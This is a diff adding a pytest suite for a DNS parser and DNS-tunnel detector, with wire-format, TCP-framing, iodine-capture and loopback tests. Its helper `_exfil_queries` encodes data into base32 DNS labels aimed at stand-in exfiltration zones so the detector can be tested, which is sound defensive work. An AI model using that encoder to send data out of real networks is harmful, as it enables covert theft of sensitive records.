@@ -1,0 +1,314 @@
+"""DNS parser: wire format, payloads, TCP framing, tunnel detection (iodine capture, live lo)."""
+
+from __future__ import annotations
+
+import base64
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import dns.message
+import dns.name
+import dns.query
+import dns.rdatatype
+import dns.resolver
+import dns.rrset
+import pytest
+
+from sandbox.captures import open_capture
+from sandbox.captures.writer import PcapWriter, TcpConversation
+from sandbox.model import FlowInfo, Observation, Payload, Segment
+from sandbox.protocols import Dissector
+from sandbox.protocols import dns as dnsmod
+from sandbox.protocols.context import FlowContext
+from sandbox.protocols.dns import DnsError, DnsParser, parse_message, read_name, split_zone
+
+IODINE = "captures/dns_tunnel/elastic_dns-tunnel-iodine.pcap"
+ORDINARY = ["www.example.com", "mail.example.com", "api.github.com", "github.com", "www.google.com",
+            "fonts.googleapis.com", "www.bbc.co.uk", "news.bbc.co.uk", "pypi.org", "files.pythonhosted.org",
+            "ntp.ubuntu.com", "time.windows.com", "login.microsoftonline.com", "www.illumina.com",
+            "basespace.illumina.com", "s3.amazonaws.com", "a1.example.com", "a2.example.com",
+            "cdn.example.com", "static.example.com"]
+
+
+def dissect(segments: list[Segment]) -> tuple[list[Payload | Observation], Dissector]:
+    d = Dissector()
+    out: list[Payload | Observation] = []
+    for seg in segments:
+        out += d.feed(seg)
+    return out + d.close(), d
+
+
+def dissect_file(path: Path) -> tuple[list[Payload | Observation], Dissector]:
+    return dissect(list(open_capture(path)))
+
+
+def query_wire(name: str, rdtype: str = "A", ident: int = 1) -> bytes:
+    q = dns.message.make_query(name, rdtype)
+    q.id = ident
+    return q.to_wire()
+
+
+def tunnels(items: list) -> list[Observation]:
+    return [o for o in items if isinstance(o, Observation) and o.kind == "dns-tunnel"]
+
+
+def pls(items: list, label: str) -> list[Payload]:
+    return [p for p in items if isinstance(p, Payload) and label in p.chain]
+
+
+# --------------------------------------------------------------------------- wire format
+
+
+def test_parse_response_with_compression_and_txt() -> None:
+    q = dns.message.make_query("run-42.example.com", "TXT")
+    r = dns.message.make_response(q)
+    r.answer.append(dns.rrset.from_text("run-42.example.com.", 60, "IN", "TXT", '"abc" "def"'))
+    r.answer.append(dns.rrset.from_text("run-42.example.com.", 60, "IN", "CNAME", "alias.run-42.example.com."))
+    msg = parse_message(r.to_wire())
+    assert msg.response and msg.questions[0][0] == [b"run-42", b"example", b"com"]
+    txt, cname = msg.records
+    assert txt.data == b"abcdef" and txt.name == [b"run-42", b"example", b"com"]
+    assert cname.data == b"alias.run-42.example.com"   # name rdata decompressed
+
+
+def test_pointer_loop_forward_pointer_and_truncation_are_errors() -> None:
+    header = b"\x00\x01\x00\x00\x00\x01" + b"\x00" * 6
+    with pytest.raises(DnsError):   # pointer to itself
+        parse_message(header + b"\xc0\x0c\x00\x01\x00\x01")
+    with pytest.raises(DnsError):   # forward pointer
+        parse_message(header + b"\xc0\x20" + b"\x00" * 40)
+    with pytest.raises(DnsError):
+        parse_message(header + b"\x05ab")
+    with pytest.raises(DnsError):
+        parse_message(b"\x00\x01")
+    long_name = b"".join(b"\x3f" + b"a" * 63 for _ in range(5)) + b"\x00"
+    with pytest.raises(DnsError):
+        read_name(long_name, 0)
+
+
+def test_split_zone_handles_multi_part_suffixes() -> None:
+    assert split_zone([b"a", b"b", b"example", b"co", b"uk"]) == ([b"a", b"b"], [b"example", b"co", b"uk"])
+    assert split_zone([b"www", b"example", b"com"]) == ([b"www"], [b"example", b"com"])
+    assert split_zone([b"example", b"com"]) == ([], [b"example", b"com"])
+
+
+def test_udp_parser_never_raises_on_garbage() -> None:
+    info = FlowInfo(flow="udp x", channel="net", transport="udp", src="10.0.0.2", sport=5000,
+                    dst="10.0.0.1", dport=53, destination="10.0.0.1")
+    ctx = FlowContext(flow="udp x", info=info, shared={}, chain=("udp",))
+    parser = DnsParser(ctx)
+    out = parser.feed("out", b"\x00\x01\x00\x00\x00\x01" + b"\x00" * 6 + b"\xc0\x0c", 1.0)
+    assert [p.chain for p in out] == [("udp", "dns malformed")] and info.errors
+    assert parser.close(2.0) == []
+
+
+# --------------------------------------------------------------------------- payloads
+
+
+def test_query_and_answer_payloads_via_dissector() -> None:
+    q = dns.message.make_query("x7k2.data.exfil.test", "TXT")
+    r = dns.message.make_response(q)
+    r.answer.append(dns.rrset.from_text(q.question[0].name, 0, "IN", "TXT", '"secret-reply"'))
+    r.answer.append(dns.rrset.from_text(q.question[0].name, 0, "IN", "A", "192.0.2.1"))
+    segs = [Segment(1.0, "net", "udp", "10.0.0.2", 40000, "10.0.0.53", 53, q.to_wire()),
+            Segment(1.1, "net", "udp", "10.0.0.53", 53, "10.0.0.2", 40000, r.to_wire())]
+    items, d = dissect(segs)
+    (name,) = pls(items, "dns query TXT")
+    assert name.data == b"x7k2.data.exfil.test" and name.direction == "out"
+    assert name.destination == "10.0.0.53" and name.meta["qtype"] == "TXT"
+    (qname,) = pls(items, "dns qname")
+    assert qname.data == b"x7k2data" and qname.chain == ("udp", "dns qname")
+    (answer,) = pls(items, "dns answer TXT")
+    assert answer.data == b"secret-reply" and answer.direction == "in"
+    assert not pls(items, "dns answer A")   # addresses are not content
+    assert d.flows["udp 10.0.0.2:40000 > 10.0.0.53:53"].app == "dns"
+
+
+def test_dns_over_tcp_length_framing(tmp_path: Path) -> None:
+    pcap = tmp_path / "dnstcp.pcap"
+    q1, q2 = query_wire("first.example.org", ident=1), query_wire("second.example.org", "TXT", ident=2)
+    r = dns.message.make_response(dns.message.from_wire(q2))
+    r.answer.append(dns.rrset.from_text("second.example.org.", 0, "IN", "TXT", '"over-tcp"'))
+    framed = b"".join(len(m).to_bytes(2, "big") + m for m in (q1, q2))
+    with PcapWriter(pcap) as w:
+        conv = TcpConversation(w, ("10.0.0.2", 41000), ("10.0.0.53", 53), t0=1.0, mss=7)   # split frames
+        conv.send(framed)
+        rw = r.to_wire()
+        conv.send(len(rw).to_bytes(2, "big") + rw, from_client=False)
+        conv.close()
+    items, d = dissect_file(pcap)
+    names = [p.data for p in items if isinstance(p, Payload) and p.chain[1].startswith("dns query")]
+    assert names == [b"first.example.org", b"second.example.org"]
+    assert [p.data for p in pls(items, "dns answer TXT")] == [b"over-tcp"]
+    assert all(p.chain[0] == "tcp" for p in pls(items, "dns qname"))
+    assert next(iter(d.flows.values())).app == "dns"
+
+
+# --------------------------------------------------------------------------- tunnel detection
+
+
+def _exfil_queries(payload: bytes, zone: str, rdtype: str = "TXT") -> list[bytes]:
+    """dnscat/DNSExfiltrator style: base32 chunks in 60-char labels, a counter label first."""
+    enc = base64.b32encode(payload).decode().rstrip("=").lower()
+    return [query_wire(f"{i:04x}.{enc[o:o + 60]}.{zone}", rdtype, ident=i)
+            for i, o in enumerate(range(0, len(enc), 60))]
+
+
+def test_tunnel_flagged_and_labels_decode_to_the_payload() -> None:
+    secret = (b"@read1\nACGTTGCAACGTAGCTAGCTAGGATCCGATCGATCGTAGCTAGCTAG\n+\nIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIII\n" * 40)
+    segs = [Segment(1.0 + i * 0.05, "net", "udp", "10.0.0.2", 40000 + i % 7, "10.0.0.53", 53, w)
+            for i, w in enumerate(_exfil_queries(secret, "t.exfil-example.net"))]
+    items, _ = dissect(segs)
+    (obs,) = tunnels(items)
+    assert obs.severity == "medium" and obs.destination == "exfil-example.net"
+    assert obs.detail["domain"] == "exfil-example.net" and obs.detail["unique_names"] == len(segs)
+    assert obs.detail["queries"] == len(segs) and obs.detail["bytes_in_labels"] > 4096
+    assert "long high-entropy labels" in obs.detail["signals"]
+    assert all(len(e) <= dnsmod.EXAMPLE_LEN for e in obs.detail["examples"])
+    # the "dns qname" payloads carry the base32 text the decoders can undo
+    chunks = [p.data[4:] for p in pls(items, "dns qname")]
+    text = b"".join(c[: len(c) - 1] for c in chunks).decode().upper()   # minus the "t" label
+    assert base64.b32decode(text + "=" * (-len(text) % 8)) == secret
+
+
+def test_ordinary_lookups_not_flagged() -> None:
+    segs = []
+    for rep in range(3):
+        for i, name in enumerate(ORDINARY):
+            t = rep * 30 + i * 0.5
+            segs.append(Segment(t, "net", "udp", "10.0.0.2", 30000 + i, "10.0.0.53", 53, query_wire(name, "A")))
+            segs.append(Segment(t, "net", "udp", "10.0.0.2", 30000 + i, "10.0.0.53", 53,
+                                query_wire(name, "AAAA")))
+    items, _ = dissect(segs)
+    assert not tunnels(items)
+    assert len(pls(items, "dns query A")) == len(ORDINARY)   # retransmits within a flow skipped
+
+
+def test_zone_state_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(dnsmod, "MAX_ZONES", 10)
+    monkeypatch.setattr(dnsmod, "MAX_UNIQUE_NAMES", 5)
+    segs = [Segment(float(i), "net", "udp", "10.0.0.2", 40000, "10.0.0.53", 53,
+                    query_wire(f"h{i}.zone{i % 50}.test", ident=i)) for i in range(400)]
+    d = Dissector()
+    for s in segs:
+        d.feed(s)
+    zones = dnsmod.tracker(d.shared)
+    assert len(zones.zones) <= 10
+    assert all(len(z.seen) <= 5 for z in zones.zones.values())
+    d.close()
+
+
+def test_iodine_capture_is_flagged(shared_data: Path) -> None:
+    items, d = dissect_file(shared_data / IODINE)
+    (obs,) = tunnels(items)
+    assert obs.destination == "pirate.sea" and obs.detail["domain"] == "pirate.sea"
+    assert obs.detail["queries"] >= 200 and obs.detail["unique_names"] >= 200
+    assert "TXT/NULL heavy" in obs.detail["signals"]
+    assert obs.flow == "udp 10.0.2.30:44639 > 10.0.2.20:53" and obs.detail["resolver"] == "10.0.2.20"
+    assert len(pls(items, "dns query NULL")) >= 200 and len(pls(items, "dns answer NULL")) >= 200
+    assert not any(f.errors for f in d.flows.values())
+
+
+# --------------------------------------------------------------------------- live, recorded on lo
+
+
+@contextmanager
+def record_lo(path: Path, bpf: str) -> Iterator[Path]:
+    if shutil.which("dumpcap") is None:
+        pytest.skip("dumpcap not installed")
+    proc = subprocess.Popen(["dumpcap", "-q", "-i", "lo", "-f", bpf, "-w", str(path)],
+                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    try:
+        deadline = time.monotonic() + 15
+        while not (path.exists() and path.stat().st_size > 0):
+            if proc.poll() is not None:
+                pytest.skip(f"dumpcap cannot capture on lo: {proc.stderr.read().decode()[-300:]}")
+            if time.monotonic() > deadline:
+                raise TimeoutError("dumpcap did not start")
+            time.sleep(0.05)
+        time.sleep(0.3)
+        yield path
+        time.sleep(0.5)
+    finally:
+        if proc.poll() is None:
+            proc.send_signal(signal.SIGINT)
+            try:
+                proc.wait(10)
+            except subprocess.TimeoutExpired:
+                os.kill(proc.pid, signal.SIGKILL)
+                proc.wait()
+
+
+class Responder:
+    """A tiny answer-everything UDP DNS server on port 53 of a loopback address of its own.
+
+    Port 53 because that is where an instrument's resolver is (the parser is picked by port);
+    127.0.53.53 so it cannot collide with a local resolver stub on 127.0.0.1/127.0.0.53.
+    """
+
+    ADDRESS = "127.0.53.53"
+
+    def __init__(self) -> None:
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        try:
+            self.sock.bind((self.ADDRESS, 53))
+        except OSError as exc:
+            self.sock.close()
+            pytest.skip(f"cannot bind {self.ADDRESS}:53 ({exc}); needs root as in CI")
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.stop = False
+        self.thread = threading.Thread(target=self._run, daemon=True)
+
+    def _run(self) -> None:
+        while not self.stop:
+            try:
+                wire, addr = self.sock.recvfrom(65535)
+            except TimeoutError:
+                continue
+            q = dns.message.from_wire(wire)
+            r = dns.message.make_response(q)
+            qname, qtype = q.question[0].name, q.question[0].rdtype
+            if qtype == dns.rdatatype.TXT:
+                r.answer.append(dns.rrset.from_text(qname, 60, "IN", "TXT", '"v=spf1 -all"'))
+            elif qtype == dns.rdatatype.A:
+                r.answer.append(dns.rrset.from_text(qname, 60, "IN", "A", "192.0.2.10"))
+            self.sock.sendto(r.to_wire(), addr)
+
+    def __enter__(self) -> Responder:
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.stop = True
+        self.thread.join(2)
+        self.sock.close()
+
+
+@pytest.mark.e2e
+def test_live_lookups_on_lo_not_flagged_but_exfil_is(tmp_path: Path) -> None:
+    pcap = tmp_path / "dns.pcapng"
+    with Responder() as srv, record_lo(pcap, f"udp and host {srv.ADDRESS}"):
+        res = dns.resolver.Resolver(configure=False)
+        res.nameservers, res.port, res.lifetime = [srv.ADDRESS], srv.port, 3.0
+        for name in ORDINARY:
+            assert res.resolve(name, "A")[0].address == "192.0.2.10"
+        res.resolve("example.com", "TXT")
+        secret = b"Sample_ID,Sample_Name\nS1,patient-0042\n" * 80   # ~60 queries
+        for wire in _exfil_queries(secret, "x.exfil-example.net"):
+            dns.query.udp(dns.message.from_wire(wire), srv.ADDRESS, port=srv.port, timeout=3)
+    items, d = dissect_file(pcap)
+    queried = {p.data.decode() for p in pls(items, "dns query A")}
+    assert set(ORDINARY) <= queried
+    assert [p.data for p in pls(items, "dns answer TXT") if p.data == b"v=spf1 -all"]
+    flagged = tunnels(items)
+    assert [o.detail["domain"] for o in flagged] == ["exfil-example.net"]
+    assert all(f.app == "dns" for f in d.flows.values())
